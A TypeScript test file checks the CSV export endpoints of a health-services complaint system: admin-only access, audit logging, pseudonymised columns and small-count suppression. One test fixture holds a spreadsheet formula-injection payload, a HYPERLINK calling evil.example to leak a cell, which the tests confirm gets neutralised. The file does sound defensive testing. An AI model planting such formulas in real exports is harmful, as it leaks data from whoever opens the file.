import { bearer, cityByCode, seedFacility, seedMember, SeededMember } from '../support/fixtures';
import { insertComplaints, times } from '../support/stats-fixtures';
import { createTestApp, TestApp } from '../support/test-app';

/** RFC 4180 parser, enough to read back what the export wrote. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += ch;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

const binary = (res: any, cb: (err: Error | null, body: string) => void) => {
  let data = '';
  res.setEncoding('utf8');
  res.on('data', (c: string) => (data += c));
  res.on('end', () => cb(null, data));
};

describe('exports (HTTP)', () => {
  let t: TestApp;
  let member: SeededMember;
  let bkh: number;
  let dsh: number;
  const INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

  beforeAll(async () => {
    t = await createTestApp();
    bkh = (await cityByCode(t, 'BKH')).city.id;
    dsh = (await cityByCode(t, 'DSH')).city.id;
    const site = await seedFacility(t, 'BKH', { name: '-Methadone site' });
    member = await seedMember(t, 'BKH');
    // More rows than one keyset page (2,000), so the stream has to fetch several pages.
    await insertComplaints(t, [
      ...times(2050, { cityId: bkh, receivedAt: '2021-03-01T08:00:00Z', outcome: 'resolved_positive', keyPopulations: ['plhiv', 'sex_worker'], gender: 'female' }),
      { cityId: bkh, receivedAt: '2021-03-02T08:00:00Z', description: INJECTION, facilityId: site.id, contactEnc: 'v1:k1:CONTACT-ENVELOPE', gender: 'transgender_female', keyPopulations: ['lgbtiq'] },
      ...times(3, { cityId: dsh, receivedAt: '2021-03-02T08:00:00Z', outcome: 'unresolved_client_declined', gender: 'male' }),
      { cityId: dsh, receivedAt: '2021-03-02T08:00:00Z', status: 'rejected' },
      { cityId: dsh, receivedAt: '2020-12-31T12:00:00Z', outcome: 'resolved_negative' },
    ]);
  });
  afterAll(async () => {
    await t.close();
  });

  it('streams every complaint of the period, pseudonymised', async () => {
    const res = await t.http().get('/api/v1/exports/complaints.csv?from=2021-01-01&to=2021-12-31').set(bearer(t.adminToken)).buffer(true).parse(binary).expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toContain('complaints.csv');
    const rows = parseCsv(res.body as unknown as string);
    const [header, ...data] = rows;
    expect(header).toEqual(expect.arrayContaining(['reference', 'received_at', 'city', 'category', 'key_populations', 'status', 'outcome']));
    expect(header).not.toEqual(expect.arrayContaining(['description', 'contact', 'tracking_hash']));
    // 2,050 + 1 + 3 + 1 rejected (kept: the export is row-level); the 2020 one is outside.
    expect(data).toHaveLength(2055);
    const text = res.body as unknown as string;
    expect(text).not.toContain('CONTACT-ENVELOPE');
    expect(text).not.toContain('HYPERLINK');
    expect(text).not.toContain('The site closes');
    const col = (name: string) => header.indexOf(name);
    const trans = data.find((r) => r[col('gender')] === 'transgender_female')!;
    expect(trans[col('key_populations')]).toBe('lgbtiq');
    expect(trans[col('facility')]).toBe("'-Methadone site");
    expect(data[0][col('key_populations')]).toBe('plhiv;sex_worker');
    expect(data[0][col('received_at')]).toBe('2021-03-01T08:00:00.000Z');
    expect(new Set(data.map((r) => r[col('reference')])).size).toBe(2055);
  });

  it('adds free text only when asked, with formulas neutralised', async () => {
    const res = await t.http().get('/api/v1/exports/complaints.csv?from=2021-03-02&to=2021-03-02&includeText=true').set(bearer(t.adminToken)).buffer(true).parse(binary).expect(200);
    const [header, ...data] = parseCsv(res.body as unknown as string);
    expect(header).toContain('description');
    const cell = data.find((r) => r[header.indexOf('gender')] === 'transgender_female')![header.indexOf('description')];
    expect(cell).toBe(`'${INJECTION}`);
    expect(data.every((r) => !/^[=+\-@\t\r]/.test(r[header.indexOf('description')]))).toBe(true);
  });

  it('audits each export and is for admins only', async () => {
    await t.http().get('/api/v1/exports/complaints.csv').set(bearer(member.token)).expect(403);
    await t.http().get('/api/v1/exports/react.csv').set(bearer(member.token)).expect(403);
    await t.http().get('/api/v1/exports/complaints.csv?includeText=maybe').set(bearer(t.adminToken)).expect(400);
    const audit = await t.http().get('/api/v1/audit?entity=complaint').set(bearer(t.adminToken)).expect(200);
    const exports = audit.body.items.filter((e: any) => e.action === 'export.complaints_csv');
    expect(exports).toHaveLength(2);
    expect(exports.map((e: any) => e.details.includeText).sort()).toEqual([false, true]);
  });

  it("writes REAct's tables suppressed as a non-admin's statistics are, even for an admin", async () => {
    const res = await t.http().get('/api/v1/exports/react.csv?from=2021-01-05&to=2021-12-20').set(bearer(t.adminToken)).buffer(true).parse(binary).expect(200);
    const [header, ...rows] = parseCsv(res.body as unknown as string);
    expect(header).toEqual(['section', 'code', 'category', 'count', 'share_percent']);
    const find = (section: string, code: string) => rows.find((r) => r[0] === section && r[1] === code)!;
    expect(find('Cases', 'received')[3]).toBe('2054');
    // In progress (1) and declined (3) are small; 1 + 3 < 5 still pins them, so the positive count goes too.
    expect(find('Reaction status', 'in_progress').slice(3)).toEqual(['suppressed', '']);
    expect(find('Reaction status', 'unresolved_client_declined').slice(3)).toEqual(['suppressed', '']);
    expect(find('Reaction status', 'resolved_positive').slice(3)).toEqual(['suppressed', '']);
    expect(find('Cases', 'positive_rate')[3]).toBe('suppressed');
    expect(find('Reaction status', 'resolved_negative').slice(3)).toEqual(['0', '0.0']);
    // Key populations: lgbtiq (1) and not recorded (3) are folded with the next smallest (plhiv, 2,050).
    expect(find('Key populations', 'sex_worker')[3]).toBe('2050');
    expect(find('Key populations', 'lgbtiq')[3]).toBe('suppressed');
    expect(find('Key populations', 'plhiv')[3]).toBe('suppressed');
    // A code without any case looks like a folded one, or the zeros would say which codes were folded.
    expect(find('Key populations', 'migrant')[3]).toBe('suppressed');
    expect(find('Key populations', 'suppressed')[3]).toBe('2054');
    // Gender: transgender woman (1) and men (3) hold 4 < 5 together, so women are folded with them.
    for (const code of ['transgender_female', 'male', 'female', 'unknown']) expect(find('Gender', code)[3]).toBe('suppressed');
    expect(find('Gender', 'suppressed')[3]).toBe('2054');
    expect(find('Age groups', 'not_recorded')[3]).toBe('2054');
    expect(find('Age groups', '19-35')[3]).toBe('0');
    // The declined cell is hidden, so every decline reason is too (their sum would give it back).
    expect(rows.filter((r) => r[0].startsWith('Why')).every((r) => r[3] === 'suppressed')).toBe(true);
    expect(find('Notes', 'period')[2]).toContain('2021-01-01 to 2021-12-31');
    expect(rows.some((r) => /^[1-4]$/.test(r[3]))).toBe(false);
    const audit = await t.http().get('/api/v1/audit?entity=complaint').set(bearer(t.adminToken)).expect(200);
    expect(audit.body.items.map((e: any) => e.action)).toContain('export.react_csv');
  });
});
